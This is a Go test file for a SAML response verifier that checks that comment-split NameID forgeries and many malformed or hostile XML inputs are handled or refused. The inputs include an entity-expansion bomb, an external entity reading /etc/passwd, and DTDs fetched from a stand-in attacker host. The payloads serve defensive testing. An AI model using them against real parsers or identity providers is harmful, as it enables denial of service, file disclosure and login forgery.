package saml

import (
	"fmt"
	"strings"
	"testing"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
)

// TestCommentsDoNotSplitTexts: the whole text counts, whoever put the comment
// there and whether or not it is signed.
func TestCommentsDoNotSplitTexts(t *testing.T) {
	t.Parallel()
	keep := forgery{
		canonical:  dsig.MakeC14N10ExclusiveWithCommentsCanonicalizerWithPrefixList(""),
		transforms: transforms(enveloped, exclusiveWith),
	}
	split := func(el *etree.Element) {
		whole := el.Text()
		i := strings.IndexByte(whole, '.')
		el.SetText(whole[:i])
		el.CreateComment(" a comment ")
		el.CreateText(whole[i:])
	}
	name := func(a *etree.Element) {
		el := find(t, a, "NameID")
		el.SetText("root@good.com.evil.example")
		split(el)
	}
	setName := func(a *etree.Element) { find(t, a, "NameID").SetText("root@good.com.evil.example") }
	inserted := xmlOf(t, signing(t, good(), setName))
	tests := map[string]string{
		"signed without comments":     signing(t, good(), name),
		"signed with comments":        forged(t, keep, name),
		"put there afterwards":        pack(strings.Replace(inserted, ".com.evil", ".com<!-- -->.evil", 1)),
		"CDATA put there afterwards":  pack(strings.Replace(inserted, ".com.evil", "<![CDATA[.com]]>.evil", 1)),
		"a comment in every text":     everyTextSplit(t, inserted),
		"character references":        pack(strings.Replace(inserted, ".com.evil", "&#46;com&#x2E;evil", 1)),
		"two comments and empty text": pack(strings.Replace(inserted, ".com.evil", ".com<!----><!-- x --><![CDATA[]]>.evil", 1)),
	}
	for name, response := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, err := trusted().Verify(response, "aws", now)
			if err != nil {
				t.Fatal(err)
			}
			if got.Subject.Name != "root@good.com.evil.example" || got.CheckRole(role, provider) != nil {
				t.Errorf("the subject is %q, the roles are %v", got.Subject.Name, got.Roles)
			}
		})
	}
}

// everyTextSplit puts a comment into the middle of every text of the
// assertion, but for the signature's.
func everyTextSplit(tb testing.TB, response string) string {
	tb.Helper()
	root := fragment(tb, response)
	walk(find(tb, root, "Assertion"), func(el *etree.Element) {
		s, ok := text(el)
		if !ok || len(s) < 2 || el.NamespaceURI() == signatureNS {
			return
		}
		el.SetText(s[:len(s)/2])
		el.CreateComment("x")
		el.CreateText(s[len(s)/2:])
	})
	split, err := encode(root)
	if err != nil {
		tb.Fatal(err)
	}
	return split
}

func TestTextWithElementsWithinIsNotRead(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		tag  string
		want refusal
	}{
		"a NameID":  {"NameID", refusal{AccessDenied, "Not authorized to perform sts:AssumeRoleWithSAML", "no NameID"}},
		"an Issuer": {"Issuer", refusal{InvalidIdentityToken, "Issuer not present in specified provider", `the Issuer is ""`}},
		"an Audience": {"Audience", refusal{
			InvalidIdentityToken, "Response does not contain the required audience.",
			`the audience is ""`,
		}},
		"an AttributeValue": {"AttributeValue", refusal{InvalidIdentityToken, "Invalid SAML response: a value of attribute " +
			AttributePrefix + "Role holds elements, it must be text", ""}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, err := trusted().Verify(signing(t, good(), func(a *etree.Element) { find(t, a, tt.tag).CreateElement("saml:b") }), "aws", now)
			tt.want.check(t, got, err)
		})
	}
}

// TestXMLThatIsRefused gives each response as it would be taken but for what
// is put into it.
func TestXMLThatIsRefused(t *testing.T) {
	t.Parallel()
	whole := xmlOf(t, respond(t, honest(), good()))
	before := func(s string) string { return s + whole }
	within := func(s string) string { return strings.Replace(whole, "<samlp:Status>", s+"<samlp:Status>", 1) }
	onRoot := func(s string) string { return strings.Replace(whole, "<samlp:Response ", "<samlp:Response "+s+" ", 1) }
	var bomb strings.Builder
	bomb.WriteString(`<!DOCTYPE b [<!ENTITY a0 "ha">`)
	for i := range 30 {
		fmt.Fprintf(&bomb, `<!ENTITY a%d "&a%d;&a%d;&a%d;&a%d;">`, i+1, i, i, i, i)
	}
	bomb.WriteString("]>")
	tests := map[string]struct{ text, want string }{
		"a document type":              {before("<!DOCTYPE Response>"), "document type declarations are refused"},
		"an entity bomb":               {before(bomb.String()), "document type declarations are refused"},
		"an external entity":           {before(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`), "document type declarations are refused"},
		"a parameter entity":           {before(`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>`), "document type declarations are refused"},
		"an external document type":    {before(`<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">`), "document type declarations are refused"},
		"a declaration further in":     {within(`<!ENTITY x "y">`), "document type declarations are refused"},
		"an entity nobody declared":    {within("&x;"), "invalid character entity &x;"},
		"a processing instruction":     {within("<?x y?>"), "processing instruction x is refused"},
		"a second head":                {within(`<?xml version="1.0"?>`), "processing instruction xml is refused"},
		"a head behind a blank":        {before(` <?xml version="1.0"?>`), "processing instruction xml is refused"},
		"another encoding":             {before(`<?xml version="1.0" encoding="UTF-7"?>`), `the encoding is "UTF-7", it must be UTF-8`},
		"bytes that are no UTF-8":      {within("\xff"), "the text is not UTF-8"},
		"UTF-16":                       {"\xff\xfe<\x00a\x00", "the text is not UTF-8"},
		"a character that XML has not": {within("\x01"), "illegal character code U+0001"},
		"a second root":                {whole + "<x/>", "there is a second root element"},
		"text behind the root":         {whole + "x", "there is text outside the root element"},
		"text before the root":         {before("x"), "there is text outside the root element"},
		"an attribute twice":           {onRoot(`ID="_x"`), "element samlp:Response has attribute ID twice"},
		"an attribute twice by two prefixes": {
			onRoot(`xmlns:p="urn:x" xmlns:q="urn:x" p:a="1" q:a="2"`),
			"element samlp:Response has attribute q:a twice",
		},
		"a prefix declared twice":             {onRoot(`xmlns:samlp="urn:x"`), "element samlp:Response has attribute xmlns:samlp twice"},
		"an element of no declared prefix":    {within("<x:y/>"), `prefix "x" of x:y is not declared`},
		"a prefix of a sibling":               {within(`<y xmlns:x="urn:x"/><x:y/>`), `prefix "x" of x:y is not declared`},
		"an attribute of no declared prefix":  {onRoot(`x:y="z"`), `prefix "x" of x:y is not declared`},
		"an element in xmlns":                 {within("<xmlns:y/>"), `prefix "xmlns" of xmlns:y is not declared`},
		"xml declared as another":             {onRoot(`xmlns:xml="urn:x"`), `xmlns:xml="urn:x" declares a reserved namespace`},
		"xmlns declared":                      {onRoot(`xmlns:xmlns="urn:x"`), `xmlns:xmlns="urn:x" declares a reserved namespace`},
		"another prefix for xml":              {onRoot(`xmlns:x="http://www.w3.org/XML/1998/namespace"`), "declares a reserved namespace"},
		"xml as the default":                  {onRoot(`xmlns="http://www.w3.org/XML/1998/namespace"`), "declares a reserved namespace"},
		"a prefix for nothing":                {onRoot(`xmlns:x=""`), "xmlns:x declares an empty namespace"},
		"a name that begins with a colon":     {within("<:y/>"), `":y" is not a name`},
		"a name that ends with a colon":       {within("<y:/>"), `"y:" is not a name`},
		"a name with two colons":              {within(`<a:b:c xmlns:a="urn:a"/>`), "expected element name"},
		"an attribute that ends with a colon": {onRoot(`ID:="z"`), `attribute name "ID:" is not a name`},
		"an end that fits no start":           {within("<x></y>"), "</y> closes <x>"},
		"an end of another prefix":            {within(`<x></samlp:x>`), "</samlp:x> closes <x>"},
		"an end too many":                     {whole + "</samlp:Response>", "</samlp:Response> closes nothing"},
		"cut off":                             {strings.TrimSuffix(whole, "</samlp:Response>"), "element samlp:Response is not closed"},
		"cut off in a tag":                    {whole[:len(whole)-1], "unexpected EOF"},
		"nothing":                             {"", "the text holds no XML element"},
		"too deep":                            {within(strings.Repeat("<a>", 32) + strings.Repeat("</a>", 32)), "elements are nested more than 32 deep"},
		"too many elements":                   {within(strings.Repeat("<a/>", 5000)), "there are more than 5000 elements"},
		"too many attributes":                 {within("<a " + many(65, `a%d="" `) + "/>"), "element a has more than 64 attributes"},
		"too many prefixes": {
			within("<a " + many(40, `xmlns:a%d="urn:a" `) + "><b " + many(40, `xmlns:a%d="urn:b" `) + "/></a>"),
			"there are more than 64 namespace declarations in scope",
		},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, err := trusted().Verify(pack(tt.text), "aws", now)
			refusal{InvalidIdentityToken, "Invalid base64 SAMLResponse", tt.want}.check(t, got, err)
		})
	}
	if _, err := trusted().Verify(pack(within("<a/>"+strings.Repeat("<a>", 31)+strings.Repeat("</a>", 31))), "aws", now); err != nil {
		t.Errorf("as deep as it may be: %v", err)
	}
}

// many gives a text n times, with its number.
func many(n int, format string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, format, i)
	}
	return b.String()
}

func TestErrorsTellThePlaceInTheXML(t *testing.T) {
	t.Parallel()
	_, err := trusted().Verify(pack("\ufeff<a>\n  <b x='1' x='2'/>\n</a>"), "aws", now)
	refusal{InvalidIdentityToken, "Invalid base64 SAMLResponse", "not XML at 2:3: element b has attribute x twice"}.check(t, nil, err)
}
